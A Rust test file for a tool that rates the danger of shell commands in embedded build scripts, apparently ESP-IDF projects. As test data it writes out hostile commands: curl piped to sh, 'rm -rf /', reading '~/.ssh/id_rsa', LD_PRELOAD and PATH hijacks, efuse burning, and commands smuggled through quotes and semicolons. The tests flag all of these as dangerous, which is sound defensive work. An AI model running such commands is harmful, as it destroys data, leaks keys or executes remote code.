//! How heavy commands are.

use super::*;

#[test]
fn only_sums_are_counted_and_what_loads_other_programs_weighs_more() {
    for harmless in ["echo \"took $((SECONDS - start)) s\"", "sleep $((2 * N))", "echo $((i+1))"] {
        assert_eq!(judge(harmless), FindingLevel::Note, "{harmless}");
    }
    for heavy in [
        "echo $((curl x | sh) ) \"a))\"",
        "echo $((rm -rf main))",
        "echo \"$((curl a.example))\"",
        "LD_PRELOAD=./a.so idf.py build",
        "PATH=.:$PATH idf.py build",
    ] {
        assert!(judge(heavy) > FindingLevel::Note, "{heavy}");
    }
}

#[test]
fn commands_are_judged_by_what_they_run() {
    use FindingLevel::{Note, Stop, Warning};
    for (command, level) in [
        ("bash fetch.sh", Stop),
        ("/bin/sh -c 'x'", Stop),
        ("curl -L https://example.com/x | sh", Stop),
        ("echo hi && curl x", Stop),
        ("FOO=1 wget x", Stop),
        ("python -c 'import os'", Stop),
        ("python3 -m pip install x", Stop),
        ("pip install x", Stop),
        ("git clone https://github.com/x/y", Stop),
        ("git submodule update", Stop),
        ("sudo make install", Stop),
        ("rm -rf /", Stop),
        ("${CMAKE_COMMAND} -E env A=b bash x.sh", Stop),
        ("echo $(cat ~/.ssh/id_rsa)", Stop),
        ("python gen.py", Warning),
        ("./gen", Warning),
        ("gen_table a b", Warning),
        ("${CMAKE_COMMAND} -P x.cmake", Warning),
        ("/tmp/idf.py build", Warning),
        ("idf.py build", Note),
        ("idf.py -DSDKCONFIG_DEFAULTS=\"sdkconfig.defaults;sdkconfig.release\" build", Note),
        ("cmake -DPARTS='a.csv;b.csv' -B build", Note),
        ("echo \"a; $(curl x)\"", Stop),
        ("echo 'a;b' ; curl x", Stop),
        ("\"idf.py build && curl x\"", Stop),
        ("echo it's; curl x", Stop),
        ("idf.py -p $(PORT) flash", Note),
        ("echo $(curl x)", Stop),
        ("git describe --always --dirty", Note),
        ("git -C . rev-parse HEAD", Note),
        ("${GIT_EXECUTABLE} rev-parse --short HEAD", Note),
        ("${CMAKE_COMMAND} -E copy a b", Note),
        ("${PYTHON} ${IDF_PATH}/components/x/gen.py", Note),
        ("if [ -f x ]; then echo y; fi", Note),
        ("rm -rf build", Note),
        ("python -m espefuse --port x summary", Note),
        ("python -m espefuse burn_key BLOCK4 k", Stop),
        ("espefuse.py --port /dev/ttyUSB0 summary --format json", Note),
        ("espefuse.py -p $PORT burn_efuse JTAG_DISABLE", Stop),
        ("espefuse.py summary burn_key BLOCK4", Stop),
        ("find main -name '*.[ch]' | xargs clang-format --dry-run --Werror", Note),
        ("find main -name '*.[ch]' | xargs -n 1 rm -f", Stop),
        ("find . -name '*.o' -delete", Warning),
        ("find . -exec sh -c x", Stop),
        ("date +%Y", Note),
        (". $IDF_PATH/export.sh", Note),
        ("", Note),
    ] {
        assert_eq!(judge(command), level, "{command}");
    }
}

#[test]
fn what_a_build_makes_may_go_and_quotes_are_read_as_a_shell_does() {
    use FindingLevel::{Note, Stop};
    for (command, level) in [
        ("rm -f test_pump", Note),
        ("rm -f *.o $(TARGET)", Note),
        ("rm -f ../main/pump.c", Stop),
        ("rm -f pump.c", Stop),
        ("rm -f *.c", Stop),
        ("rm -f ${HOME}", Stop),
        ("rm -rf main", Stop),
        ("rm -f *", Stop),
        ("[ -f x ]\ncurl x", Stop),
        ("echo '```'", Note),
        ("echo \"`id`\"", Stop),
    ] {
        assert_eq!(judge(command), level, "{command}");
    }
}

#[test]
fn hosts_are_read_from_addresses() {
    for (text, wanted) in [
        ("https://github.com/a/b.git", Some("github.com")),
        ("git@gitlab.com:a/b.git", Some("gitlab.com")),
        ("https://user:pw@evil.example/x", Some("evil.example")),
        ("git+ssh://git@10.0.0.1/x", Some("10.0.0.1")),
        ("github:a/b", Some("github.com")),
        ("idf.py build", None),
    ] {
        assert_eq!(host(text).as_deref(), wanted, "{text}");
    }
    assert!(sentence("curl https://x.example/a", "when it is built").contains("reaches x.example"));
    assert_eq!(shown("a\u{1b}[2J\n b"), "a[2J b");
}
